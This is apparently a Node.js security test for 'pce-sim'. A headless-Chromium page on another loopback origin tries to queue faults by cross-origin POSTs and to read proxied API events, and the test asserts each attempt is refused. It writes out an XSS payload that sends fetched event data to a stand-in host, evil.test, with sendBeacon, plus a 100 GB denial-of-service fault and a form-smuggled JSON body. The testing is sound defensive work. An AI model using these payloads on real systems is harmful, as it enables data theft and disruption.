// A web page on another loopback origin, in headless Chromium, attacks pce-sim as issue 11 found:
// it queues faults with `no-cors` POSTs (an HTML fault would run script on pce-sim's origin, a
// 100 GB big_body would abort the process) and reads proxied PCE data. Each must be refused.
import { after, before, describe, it } from "node:test";
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { existsSync } from "node:fs";
import { createServer } from "node:http";
import { createRequire } from "node:module";
import { fileURLToPath } from "node:url";
import { SIM_BIN, spawnSim, startSim } from "./sim.mjs";

const ROOT = fileURLToPath(new URL("../../", import.meta.url));
const { chromium } = createRequire(`${ROOT}package.json`)("playwright-core");
/** A string as a JavaScript literal that is safe inside an inline <script>. */
const jsString = (text) => JSON.stringify(text).replace(/</g, "\\u003c");
/** Text for an HTML attribute in single quotes. */
const attr = (text) => text.replace(/&/g, "&amp;").replace(/'/g, "&#39;");

/** A node http server on its own loopback port: the attacker's page, and a witness that records what it receives. */
async function attackerSite(html) {
  const received = [];
  const server = createServer((req, res) => {
    let body = "";
    req.on("data", (d) => { body += d; });
    req.on("end", () => {
      if (req.url === "/") {
        res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
        res.end(html);
        return;
      }
      received.push({ method: req.method, url: req.url, headers: req.headers, body });
      res.writeHead(204);
      res.end();
    });
  });
  await new Promise((r) => server.listen(0, "127.0.0.1", r));
  const url = `http://127.0.0.1:${server.address().port}`;
  return { url, received, close: () => new Promise((r) => server.close(r)) };
}

describe("a page on another loopback origin cannot drive or read pce-sim", { timeout: 120000 }, () => {
  let browser;
  before(async () => {
    assert.ok(existsSync("/usr/bin/chromium"), "needs /usr/bin/chromium (make test installs it first)");
    browser = await chromium.launch({
      executablePath: "/usr/bin/chromium",
      args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
        "--disable-sync", "--no-first-run", "--disable-quic"],
    });
  });
  after(async () => { await browser?.close(); });

  it("no-cors POSTs and a form post to /_sim/faults queue nothing, and pce-sim refuses them", async () => {
    const sim = await startSim();
    const evilFault = JSON.stringify({ kind: "respond", status: 200, path: "/", body: "<script>fetch(\"/pce/api/v2/orgs/1/events\").then(r=>r.text()).then(t=>navigator.sendBeacon(\"http://evil.test/\",t))</script>" });
    const hugeFault = JSON.stringify({ kind: "big_body", bytes: 100e9 });
    const html = `<!doctype html><body><form id="f" method="POST" enctype="text/plain" target="sink" action="${sim.url}/_sim/faults">
      <input name='${attr(`${evilFault.slice(0, -1)}, "x": "`)}' value='"}'></form><iframe name="sink"></iframe><script>
      window.attack = async (targets) => {
        const sent = [];
        for (const base of targets) {
          for (const [body, type] of [[${jsString(evilFault)}, "text/plain"], [${jsString(hugeFault)}, undefined], [${jsString(evilFault)}, "application/x-www-form-urlencoded"]]) {
            await fetch(base + "/_sim/faults", { mode: "no-cors", method: "POST", body, headers: type ? { "content-type": type } : {} })
              .then(() => sent.push("sent"), (e) => sent.push("error " + e.message));
          }
        }
        return sent;
      };
    </script>`;
    const site = await attackerSite(html);
    const witness = site;
    const page = await browser.newPage();
    const seen = [];
    page.on("response", (r) => { if (r.url().includes("/_sim/")) seen.push(r.allHeaders().then((headers) => ({ url: r.url(), status: r.status(), headers, type: r.request().resourceType() }))); });
    try {
      await page.goto(`${site.url}/`);
      const sent = await page.evaluate((targets) => window.attack(targets), [sim.url, site.url]);
      assert.deepEqual(sent, Array(6).fill("sent"), "Chromium sends every no-cors POST (no preflight)");
      // The same requests reached the witness as they reach pce-sim: a POST with the page's Origin, no token.
      const toWitness = witness.received.filter((r) => r.url === "/_sim/faults");
      assert.equal(toWitness.length, 3);
      for (const r of toWitness) {
        assert.equal(r.method, "POST");
        assert.equal(r.headers.origin, site.url);
        assert.equal(r.headers["x-pce-sim-token"], undefined);
      }
      await Promise.all([page.waitForEvent("response", (r) => r.url() === `${sim.url}/_sim/faults` && r.request().resourceType() === "document"),
        page.evaluate(() => document.getElementById("f").submit())]);
      const refused = (await Promise.all(seen)).filter((r) => r.url === `${sim.url}/_sim/faults`);
      assert.equal(refused.length, 4, JSON.stringify(seen));
      for (const r of refused) assert.ok(r.status === 403 || r.status === 415, `refused: ${r.status}`);
      // The form post's answer is a document the browser renders: it carries the hardening headers.
      // (DevTools shows no headers of the fetches' opaque answers; tests/hardening.rs checks those.)
      const doc = refused.find((r) => r.type === "document");
      assert.equal(doc.headers["x-content-type-options"], "nosniff", JSON.stringify(doc));
      assert.match(doc.headers["content-security-policy"] ?? "", /default-src 'self'/);
      assert.deepEqual(await sim.control("GET", "faults"), [], "no fault was queued");
      const res = await fetch(`${sim.url}/pce/api/v2/orgs/1/events?max_results=1`);
      assert.equal(res.headers.get("content-type"), "application/json");
      assert.equal(sim.child.exitCode, null, "pce-sim is still running");
    } finally {
      await page.close();
      await site.close();
      await sim.stop();
    }
  });

  it("a page cannot read events through the proxy: no CORS, and --cors with --upstream does not start", async () => {
    const upstream = await startSim(["--api-key", "api_up", "--api-secret", "up-secret", "--events", "50"]);
    const { child, url } = await spawnSim(["--listen", "127.0.0.1:0", "--events", "10", "--upstream", upstream.url,
      "--insecure-upstream", "--upstream-key", "api_up", "--upstream-secret", "up-secret"]);
    const site = await attackerSite("<!doctype html><p>hello</p>");
    const page = await browser.newPage();
    try {
      // Without --cors the proxy answers the page's GET (it is a simple request) but the page cannot read it.
      await page.goto(`${site.url}/`);
      const read = await page.evaluate(async (target) => {
        try {
          const res = await fetch(`${target}/pce/api/v2/orgs/1/events?max_results=1`);
          return `read ${res.status} ${await res.text()}`;
        } catch (e) { return `refused ${e.name}`; }
      }, url);
      assert.equal(read, "refused TypeError");
      // The GET went through the proxy to the upstream (with the proxy's key): only CORS kept the answer from the page.
      const forwarded = (await upstream.requests()).filter((r) => r.path === "/api/v2/orgs/1/events");
      assert.equal(forwarded.length, 1, "the request went out and was proxied");
      const direct = await fetch(`${url}/pce/api/v2/orgs/1/events?max_results=1`, { headers: { origin: site.url } });
      assert.equal(direct.status, 200);
      assert.equal(direct.headers.get("access-control-allow-origin"), null, "no CORS header on proxied data");
      // --cors with --upstream: refused at start, so no proxied answer can ever carry Access-Control-Allow-Origin.
      const refused = spawn(SIM_BIN, ["--listen", "127.0.0.1:0", "--cors", "--upstream", upstream.url, "--insecure-upstream",
        "--upstream-key", "api_up", "--upstream-secret", "up-secret"], { stdio: ["ignore", "pipe", "pipe"] });
      let out = "";
      let err = "";
      refused.stdout.on("data", (d) => { out += d; });
      refused.stderr.on("data", (d) => { err += d; });
      const code = await new Promise((r) => refused.once("exit", r));
      assert.equal(code, 2, err);
      assert.equal(out, "", "no ready line");
      assert.match(err, /--cors with --upstream/);
    } finally {
      await page.close();
      await site.close();
      if (child.exitCode === null) { const exited = new Promise((r) => child.once("exit", r)); child.kill("SIGTERM"); await exited; }
      await upstream.stop();
    }
  });
});
